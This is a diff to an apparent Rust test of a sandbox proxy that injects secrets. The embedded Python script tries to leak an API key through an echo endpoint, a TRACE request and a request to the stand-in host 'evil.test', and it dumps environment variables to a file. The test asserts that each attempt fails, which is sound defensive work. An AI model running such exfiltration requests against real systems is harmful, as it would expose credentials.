@@ -142,6 +142,23 @@ def get(url):
 print("plain:", get("http://api.test:{plain}/v1"))
 print("elsewhere:", get("http://other.test:{plain}/leak?k=" + key))
 print("tls:", get("https://secure.test:{tls}/v1"))
+# Ways to make the host send the value back: the request line, a header servers echo, TRACE, a
+# request for another site in full: the first three get the placeholder, TRACE and the last nothing.
+def raw(request):
+    context = ssl.create_default_context()
+    with socket.create_connection(("127.0.0.1", 3128), timeout=30) as s:
+        s.sendall(b"CONNECT secure.test:{tls} HTTP/1.1\r\n\r\n")
+        s.recv(100)
+        with context.wrap_socket(s, server_hostname="secure.test") as t:
+            t.sendall(request.encode())
+            try:
+                return t.recv(100).decode() or "refused"
+            except (OSError, ssl.SSLError):
+                return "refused"
+import socket
+print("line:", raw("GET /echo/" + key + " HTTP/1.1\r\nOrigin: " + key + "\r\n\r\n")[:15])
+print("reflected:", raw("TRACE / HTTP/1.1\r\nAuthorization: " + key + "\r\n\r\n")[:15])
+print("absolute:", raw("GET http://evil.test/ HTTP/1.1\r\nAuthorization: " + key + "\r\n\r\n")[:15])
 open("notes.txt", "w").write(key + "\n" + repr(dict(os.environ)))
 # The kernel's memory, searched for the value in two halves (the needle is never whole here).
 halves = ("{half1}".encode(), "{half2}".encode())
@@ -188,6 +205,7 @@ async fn a_secret_goes_only_to_its_host_and_never_into_the_kernel() {
     let text = result.text.clone();
     assert!(text.contains("placeholder: cellbox-secret:API_KEY"), "{text}");
     assert!(text.contains("plain: ok"), "{text}");
+    assert!(text.contains("reflected: refused") && text.contains("absolute: refused"), "{text}");
     assert!(text.contains("elsewhere: ok"), "{text}");
     assert!(text.contains("tls: ok"), "the kernel trusted its own CA for secure.test: {text}");
     assert!(text.contains("in memory: 0"), "{text}");
@@ -197,11 +215,18 @@ async fn a_secret_goes_only_to_its_host_and_never_into_the_kernel() {
         let found = heads.iter().find(|head| parts.iter().all(|part| head.contains(part)));
         found.cloned().unwrap_or_else(|| panic!("{parts:?}: {heads:?}"))
     };
-    assert!(to(&["GET /v1 ", "Host: api.test"]).contains(&format!("Bearer {}", value())), "{heads:?}");
+    let plain = to(&["GET /v1 ", "Host: api.test"]);
+    assert!(
+        plain.contains("Bearer cellbox-secret:API_KEY") && !plain.contains(&value()),
+        "never in clear text: {heads:?}"
+    );
     let elsewhere = to(&["GET /leak"]);
     assert!(elsewhere.contains("Bearer cellbox-secret:API_KEY"), "another host gets the placeholder: {heads:?}");
     assert!(!elsewhere.contains(&value()), "{heads:?}");
-    assert!(to(&["GET /v1 ", "Host: secure.test"]).contains(&format!("Bearer {}", value())), "over TLS too: {heads:?}");
+    assert!(to(&["GET /v1 ", "Host: secure.test"]).contains(&format!("Bearer {}", value())), "over TLS: {heads:?}");
+    let echo = to(&["GET /echo/cellbox-secret:API_KEY "]);
+    assert!(echo.contains("Origin: cellbox-secret:API_KEY") && !echo.contains(&value()), "{heads:?}");
+    assert!(!heads.iter().any(|head| head.starts_with("TRACE") || head.contains("evil.test")), "{heads:?}");
     let leaked = files_holding(&place.root.join("work"), value().as_bytes());
     assert!(leaked.is_empty(), "the value reached the kernel's files: {leaked:?}");
     assert!(place.root.join("work/notes.txt").exists());
